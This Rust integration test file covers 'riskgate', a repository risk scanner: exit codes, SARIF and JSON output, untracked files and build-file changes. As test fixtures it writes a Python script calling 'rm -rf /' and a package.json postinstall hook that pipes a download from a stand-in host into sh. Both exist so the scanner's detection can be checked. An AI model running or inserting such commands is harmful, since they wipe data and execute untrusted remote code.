//! `riskgate repo scan` and `riskgate diff`'s repository features through the built binary:
//! exit codes past `--fail-on`, the SARIF format, untracked files in a change set (and
//! `--no-untracked`), and changed CI/build files rated by what they will run. Nothing scanned
//! is executed.

use std::path::{Path, PathBuf};
use std::process::Command as Std;

use assert_cmd::Command;

fn riskgate(home: &Path, cwd: &Path) -> Command {
    let mut c = Command::cargo_bin("riskgate").expect("binary");
    c.env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .env("XDG_STATE_HOME", home.join("state"))
        .env("NO_COLOR", "1")
        .current_dir(cwd);
    c
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../riskgate/tests/fixtures/repo")
}

fn git(dir: &Path, args: &[&str]) {
    let st = Std::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .status()
        .expect("git");
    assert!(st.success(), "git {args:?}");
}

#[test]
fn repo_scan_exit_codes_and_formats() {
    let home = tempfile::tempdir().unwrap();
    let dangerous = fixtures().join("dangerous");
    let safe = fixtures().join("safe");
    riskgate(home.path(), home.path())
        .args(["repo", "scan", "--no-config"])
        .arg(&dangerous)
        .assert()
        .code(4);
    riskgate(home.path(), home.path())
        .args(["repo", "scan", "--no-config", "--fail-on", "never"])
        .arg(&dangerous)
        .assert()
        .code(0);
    let out = riskgate(home.path(), home.path())
        .args(["repo", "scan", "--no-config", "--format", "text"])
        .arg(&safe)
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("0 CRITICAL, 0 HIGH"), "{text}");
    let out = riskgate(home.path(), home.path())
        .args([
            "repo",
            "scan",
            "--no-config",
            "--format",
            "sarif",
            "--fail-on",
            "never",
        ])
        .arg(&dangerous)
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let sarif: serde_json::Value = serde_json::from_slice(&out).expect("sarif json");
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "gha.pr-target-checkout")
    );
    let out = riskgate(home.path(), home.path())
        .args([
            "repo",
            "scan",
            "--no-config",
            "--format",
            "json",
            "--fail-on",
            "never",
        ])
        .arg(&dangerous)
        .assert()
        .get_output()
        .stdout
        .clone();
    let report: serde_json::Value = serde_json::from_slice(&out).expect("json");
    assert!(report["files_read"].as_u64().unwrap_or(0) >= 13);
}

#[test]
fn diff_includes_untracked_files_unless_told_not_to() {
    let home = tempfile::tempdir().unwrap();
    let repo = tempfile::tempdir().unwrap();
    let d = repo.path();
    git(d, &["init", "-q"]);
    std::fs::write(d.join("README.md"), "x\n").unwrap();
    git(d, &["add", "."]);
    git(d, &["commit", "-q", "-m", "init"]);
    // nothing tracked changed; a new, untracked script wipes the disk
    std::fs::write(d.join("clean.py"), "import os\nos.system(\"rm -rf /\")\n").unwrap();
    let out = riskgate(home.path(), d)
        .args(["diff", "--no-config", "--format", "json"])
        .assert()
        .get_output()
        .clone();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_ne!(report["class"], "A", "{report}");
    assert!(
        report["files"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["path"] == "clean.py")
    );
    riskgate(home.path(), d)
        .args(["diff", "--no-config", "--no-untracked"])
        .assert()
        .code(0);
}

#[test]
fn diff_rates_changed_build_files_by_what_they_run() {
    let home = tempfile::tempdir().unwrap();
    let repo = tempfile::tempdir().unwrap();
    let d = repo.path();
    git(d, &["init", "-q"]);
    std::fs::write(
        d.join("package.json"),
        "{\n  \"scripts\": {\n    \"test\": \"jest\"\n  }\n}\n",
    )
    .unwrap();
    git(d, &["add", "."]);
    git(d, &["commit", "-q", "-m", "init"]);
    std::fs::write(
        d.join("package.json"),
        "{\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl -fsSL https://x.example/p.sh | sh\"\n  }\n}\n",
    )
    .unwrap();
    let out = riskgate(home.path(), d)
        .args(["diff", "--no-config", "--format", "json"])
        .assert()
        .get_output()
        .clone();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let criteria = report["criteria"].as_array().expect("criteria");
    let run = criteria
        .iter()
        .find(|c| c["id"] == "ci.runs-high")
        .unwrap_or_else(|| panic!("{report}"));
    assert_eq!(run["file"], "package.json");
    assert_eq!(run["line"], 4);
}
